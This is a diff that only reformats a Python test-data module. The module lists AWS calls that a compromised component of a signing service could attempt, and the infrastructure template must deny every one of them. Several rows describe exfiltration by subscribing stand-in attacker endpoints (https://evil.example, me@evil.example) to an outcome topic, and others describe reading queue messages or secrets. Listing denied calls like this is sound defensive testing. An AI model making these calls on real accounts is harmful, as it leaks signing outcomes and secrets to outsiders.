@@ -1,7 +1,7 @@
 """The AWS calls that an attacker would make from a compromised component, and that must be denied.
 
-Each row is a call that infra/template.yaml must deny with any parameters. The rows come from the table of permissions in
-infra/README.md and from attacks that were tried on the real drivers.
+Each row is a call that infra/template.yaml must deny with any parameters. The rows come from the table of permissions
+in infra/README.md and from attacks that were tried on the real drivers.
 """
 
 from __future__ import annotations
@@ -11,9 +11,31 @@ from rights import Call, call
 SIGNED = {"kms__SigningAlgorithm": "ECDSA_SHA_256", "kms__MessageType": "DIGEST"}
 # The attributes of a request that are fixed at its acceptance, and its seal.
 FIXED = (
-    "digest", "messageId", "account", "accountName", "chainId", "from", "nonce", "to", "value", "data", "gas", "gasPrice",
-    "maxFeePerGas", "maxPriorityFeePerGas", "feeCap", "deadline", "sender", "seal", "metadata", "trace", "maxHeadMs", "policyDigest", "codeVersion", "asked",
-)  # fmt: skip
+    "digest",
+    "messageId",
+    "account",
+    "accountName",
+    "chainId",
+    "from",
+    "nonce",
+    "to",
+    "value",
+    "data",
+    "gas",
+    "gasPrice",
+    "maxFeePerGas",
+    "maxPriorityFeePerGas",
+    "feeCap",
+    "deadline",
+    "sender",
+    "seal",
+    "metadata",
+    "trace",
+    "maxHeadMs",
+    "policyDigest",
+    "codeVersion",
+    "asked",
+)
 # The attributes of an account that no stage may write. They decide which key signs.
 OF_A_HEAD = ("name", "kmsKeyId", "registeredAt", "retiredAt", "accountKey", "requestId")
 
@@ -198,20 +220,56 @@ def backend() -> list[Call]:
         call(me, "sqs:ReceiveMessage", "SigningQueue", "reads and consumes other senders' requests"),
         call(me, "sqs:SendMessage", "SigningQueue", "without TLS", aws__SecureTransport="false"),
         call(me, "sns:Publish", "OutcomeTopic", "publishes false outcomes"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends all outcomes to an attacker", sns__Protocol="https", sns__Endpoint="https://evil.example"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends all outcomes to an attacker", sns__Protocol="email", sns__Endpoint="me@evil.example"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends outcomes to a foreign queue", sns__Protocol="sqs", sns__Endpoint="ForeignQueue"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "subscribes an HTTPS endpoint with a queue's name", sns__Protocol="https",
-             sns__Endpoint="BackendQueue"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "without TLS", sns__Protocol="sqs", sns__Endpoint="BackendQueue",
-             aws__SecureTransport="false"),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends all outcomes to an attacker",
+            sns__Protocol="https",
+            sns__Endpoint="https://evil.example",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends all outcomes to an attacker",
+            sns__Protocol="email",
+            sns__Endpoint="me@evil.example",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends outcomes to a foreign queue",
+            sns__Protocol="sqs",
+            sns__Endpoint="ForeignQueue",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "subscribes an HTTPS endpoint with a queue's name",
+            sns__Protocol="https",
+            sns__Endpoint="BackendQueue",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "without TLS",
+            sns__Protocol="sqs",
+            sns__Endpoint="BackendQueue",
+            aws__SecureTransport="false",
+        ),
         call(me, "sns:Unsubscribe", "OutcomeTopic", "removes other subscriptions"),
         call(me, "dynamodb:Query", "RequestsTable/index/byAccount", "lists requests"),
         call(me, "dynamodb:Scan", "RequestsTable", "lists requests"),
-        call(me, "dynamodb:UpdateItem", "RequestsTable", "writes a status", dynamodb__Attributes=["requestId", "status"]),
+        call(
+            me, "dynamodb:UpdateItem", "RequestsTable", "writes a status", dynamodb__Attributes=["requestId", "status"]
+        ),
         call(me, "dynamodb:GetItem", "AccountsTable", "reads accounts"),
         call(me, "lambda:InvokeFunction", "SignDirectFunction", "invokes the direct signer"),
-    ]  # fmt: skip
+    ]
 
 
 def viewer() -> list[Call]:
@@ -226,14 +284,34 @@ def viewer() -> list[Call]:
         call(me, "dynamodb:UpdateItem", "RequestsTable", "cancels", dynamodb__Attributes=["requestId", "cancel"]),
         call(me, "dynamodb:UpdateItem", "AccountsTable", "pauses", dynamodb__Attributes=["account", "item", "paused"]),
         call(me, "sns:Publish", "OutcomeTopic", "publishes outcomes"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends all outcomes to an attacker", sns__Protocol="https", sns__Endpoint="https://evil.example"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "subscribes an HTTPS endpoint with a queue's name", sns__Protocol="https",
-             sns__Endpoint="WatchQueue"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "subscribes a permanent queue", sns__Protocol="sqs", sns__Endpoint="BackendQueue"),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends all outcomes to an attacker",
+            sns__Protocol="https",
+            sns__Endpoint="https://evil.example",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "subscribes an HTTPS endpoint with a queue's name",
+            sns__Protocol="https",
+            sns__Endpoint="WatchQueue",
+        ),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "subscribes a permanent queue",
+            sns__Protocol="sqs",
+            sns__Endpoint="BackendQueue",
+        ),
         call(me, "kms:Sign", "Key", "signs", **SIGNED),
         call(me, "kms:GetPublicKey", "Key", "needs no public key"),
         call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
-    ]  # fmt: skip
+    ]
 
 
 def operator() -> list[Call]:
